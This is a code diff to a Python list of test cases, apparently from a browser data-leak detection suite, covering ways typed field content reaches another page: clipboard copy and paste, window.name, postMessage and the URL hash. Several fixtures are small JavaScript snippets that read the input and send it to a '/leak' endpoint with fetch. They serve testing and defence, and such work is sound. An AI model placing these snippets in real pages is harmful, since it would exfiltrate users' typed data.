@@ -79,6 +79,8 @@ CARRIED = [
     Way("copied into another tab", FIELD, (TYPE, *COPY, Goto("THERE/f"), Click(100, 60), PressKeys(("Control", "v"))), other={"/f": THEIRS}, asked=False),
     Way("cut", FIELD, (TYPE, PressKeys(("Control", "a")), PressKeys(("Control", "x")), Goto("THERE/f"), Click(100, 60), PressKeys(("Control", "v"))), other={"/f": THEIRS}, asked=False),
     Way("pasted the other way", FIELD, (TYPE, *COPY, Goto("THERE/f"), Click(100, 60), PressKeys(("Shift", "Insert"))), other={"/f": THEIRS}, asked=False),
+    Way("pasted with keys by their places", FIELD, (TYPE, *COPY, Goto("THERE/f"), Click(100, 60), PressKeys(("ControlLeft", "KeyV"))), other={"/f": THEIRS}, asked=False),
+    Way("pasted before another key", FIELD, (TYPE, *COPY, Goto("THERE/f"), Click(100, 60), PressKeys(("Control", "v", "b"))), other={"/f": THEIRS}, asked=False),
     Way("pasted without its looks", FIELD, (TYPE, *COPY, Goto("THERE/f"), Click(100, 60), PressKeys(("Control", "Shift", "v"))), other={"/f": THEIRS}, asked=False),
     Way("copied by the page", sends("navigator.clipboard.writeText(btoa(i.value))"), (TYPE, PRESS, Goto("THERE/f"), Click(100, 60), PressKeys(("Control", "v"))), other={"/f": THEIRS}, asked=False),
     Way("copied in the page's own way", FIELD + "<script>addEventListener('copy',e=>{e.clipboardData.setData('text/plain','it is '+i.value);e.preventDefault()})</script>", (TYPE, *COPY, Goto("THERE/f"), Click(100, 60), PressKeys(("Control", "v"))), other={"/f": THEIRS}, asked=False),
@@ -86,7 +88,7 @@ CARRIED = [
     Way("in the window's name", sends("window.name=i.value;location='THERE/f'"), other={"/f": "<script>fetch('/leak?d='+name)</script>"}),
     Way("in a message to a frame", sends("f.contentWindow.postMessage(i.value,'*')") + "<iframe id=f src=THERE/f></iframe>", other={"/f": "<script>onmessage=(e)=>fetch('/leak?d='+e.data)</script>"}),
     Way("in a message to a window", sends("w=window.open('THERE/f');setTimeout(()=>w.postMessage(i.value,'*'),400)"), (TYPE, PRESS, Wait(1)), other={"/f": "<script>onmessage=(e)=>fetch('/leak?d='+e.data)</script>"}, top=True),
-    Way("behind the address", sends("location='THERE/f#'+i.value"), other={"/f": "<script>fetch('/leak?d='+location.hash.slice(1))</script>"}),
+    Way("behind the address", sends("location='THERE/leak#'+i.value")),  # which the next page reads
 ]  # fmt: skip
 
 FORMS = [
